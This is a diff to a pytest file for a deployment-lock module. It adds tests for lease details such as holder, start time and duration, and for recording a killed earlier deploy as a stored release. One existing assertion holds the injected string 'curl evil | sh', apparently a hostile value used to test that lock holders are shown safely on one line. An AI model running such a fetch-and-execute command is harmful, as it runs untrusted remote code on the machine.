@@ -1,8 +1,21 @@
+import json
+from pathlib import Path
+
 import pytest
 
 from tasks.lib.build_variables import BuildVariables
 from tasks.lib.cluster.api import Json
-from tasks.lib.deploy.lock.holder import claim, claim_to_go_back, describe, notes_of
+from tasks.lib.deploy.lock.holder import (
+    NOT_KEPT,
+    claim,
+    claim_to_go_back,
+    describe,
+    facts,
+    notes_of,
+    remember_killed,
+)
+from tasks.lib.deploy.releases import store
+from tests.lib.cluster.scripted import Answer, scripted
 
 VARIABLES = BuildVariables(
     commit_sha="a" * 40, branch_name="develop", tag_name="", repo_name="lookit", build_id="7"
@@ -63,3 +76,67 @@ def test_a_holder_is_told_on_one_line_whatever_it_calls_itself() -> None:
         "spec": {"holderIdentity": "me\r\nhere\x07", "acquireTime": "2026-01-02T03:04:05.6Z"},
     }
     assert describe(held) == "me here, since 2026-01-02T03:04:05Z, branch a   next: curl evil | sh"
+
+
+@pytest.mark.parametrize(
+    ("spec", "began", "seconds"),
+    [
+        (
+            {"acquireTime": "2026-01-02T03:04:05.500000Z", "renewTime": "2026-01-02T03:05:07.600000Z"},
+            "2026-01-02T03:04:05Z",
+            "62.1",
+        ),
+        ({"acquireTime": "yesterday"}, "", "0.0"),
+        ({}, "", "0.0"),
+    ],
+    ids=["whole", "no times", "nothing"],
+)
+def test_its_lease_says_who_when_and_how_long(spec: dict[str, str], began: str, seconds: str) -> None:
+    held = lease(holderIdentity="me@here (1)", **spec)
+
+    assert facts(held) == {
+        "commit": "abc",
+        "branch": "develop",
+        "who": "me@here (1)",
+        "began": began,
+        "seconds": seconds,
+        "phases": "{}",
+        "images": "[]",
+        "secrets": "[]",
+        "result": "killed",
+        "not_kept": NOT_KEPT,
+    }
+
+
+@pytest.mark.parametrize(
+    ("holder", "said", "written"),
+    [
+        (
+            "me@here (1)",
+            "The deploy before had ended, as release 4, and could not give its lock back.",
+            [],
+        ),
+        (
+            "me@here (2)",
+            "The deploy before was killed, or cut off from the cluster: it is kept as release 5.",
+            [store.config_map(5, 1)],
+        ),
+    ],
+    ids=["it kept its release", "it did not"],
+)
+def test_who_kept_its_own_release_was_not_killed(
+    tmp_path: Path, holder: str, said: str, written: list[str]
+) -> None:
+    metadata = {"name": store.config_map(4, 1), "labels": {store.LABEL: "4"}}
+    kept = {"metadata": metadata, "data": {"who": "me@here (1)", "result": "deployed"}}
+    listing = Answer(body=json.dumps({"metadata": {"resourceVersion": "1"}, "items": [kept]}).encode())
+    held = lease(holderIdentity=holder)
+    held["metadata"]["namespace"] = "default"
+    with scripted(tmp_path) as server:
+        server.answers = [listing]
+
+        assert remember_killed(server.api(), held) == said
+
+    made = [json.loads(asked.body) for asked in server.asked if asked.method == "POST"]
+    assert [one["metadata"]["name"] for one in made] == written
+    assert [asked.method for asked in server.asked].count("GET") == 1, "the history is read once"
